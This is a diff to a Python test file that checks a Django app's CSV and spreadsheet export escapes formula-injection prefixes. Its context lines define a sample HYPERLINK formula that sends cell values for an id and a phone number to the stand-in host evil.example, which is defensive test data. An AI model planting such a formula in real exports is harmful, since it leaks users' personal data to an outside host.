@@ -18,6 +18,7 @@ from fangguan.imports.specs import N_FORMULA_TEXT
 from fangguan.registry import models as m
 
 from ..imports.conftest import csv_bytes
+from ..kit.files import without_mark
 
 FORMULA = '=HYPERLINK("http://evil.example/c?id="&E2&"&tel="&F2,"点击查看")'
 STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]
@@ -108,6 +109,7 @@ def test_labels_ids_and_moments_export_as_values_a_spreadsheet_holds():
     assert csv_cell(request_id) == str(request_id)
 
 
+@pytest.mark.django_db  # whether the database holds the demo decides the file's first row
 @pytest.mark.parametrize("value", STARTS)
 def test_every_formula_start_is_escaped(value):
     from openpyxl import Workbook
@@ -117,7 +119,7 @@ def test_every_formula_start_is_escaped(value):
     assert csv_cell(value) == "'" + value
     assert csv_cell(-3) == -3 and csv_cell("a=b") == "a=b"  # numbers and ordinary texts untouched
     line = "".join(csv_lines(["h"], [[value]]))
-    assert list(csv.reader(io.StringIO(line.lstrip("\ufeff"))))[1] == ["'" + value]
+    assert without_mark(list(csv.reader(io.StringIO(line.lstrip("\ufeff")))))[1] == ["'" + value]
     for write_only in (True, False):
         book = Workbook(write_only=write_only)
         append_row(book.create_sheet("x"), [value, 5])
